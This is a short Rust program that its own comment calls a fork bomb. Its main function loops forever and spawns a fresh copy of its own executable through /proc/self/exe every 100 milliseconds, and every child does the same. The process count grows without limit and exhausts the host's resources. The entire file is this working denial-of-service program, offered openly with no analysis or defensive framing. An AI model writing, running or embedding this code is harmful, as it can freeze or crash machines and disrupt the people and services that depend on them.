//! A fork bomb: each of its processes starts others for ever, whether or not there may be more.

use std::process::Command;
use std::thread::sleep;
use std::time::Duration;

fn main() {
    loop {
        drop(Command::new("/proc/self/exe").spawn());
        sleep(Duration::from_millis(100));
    }
}
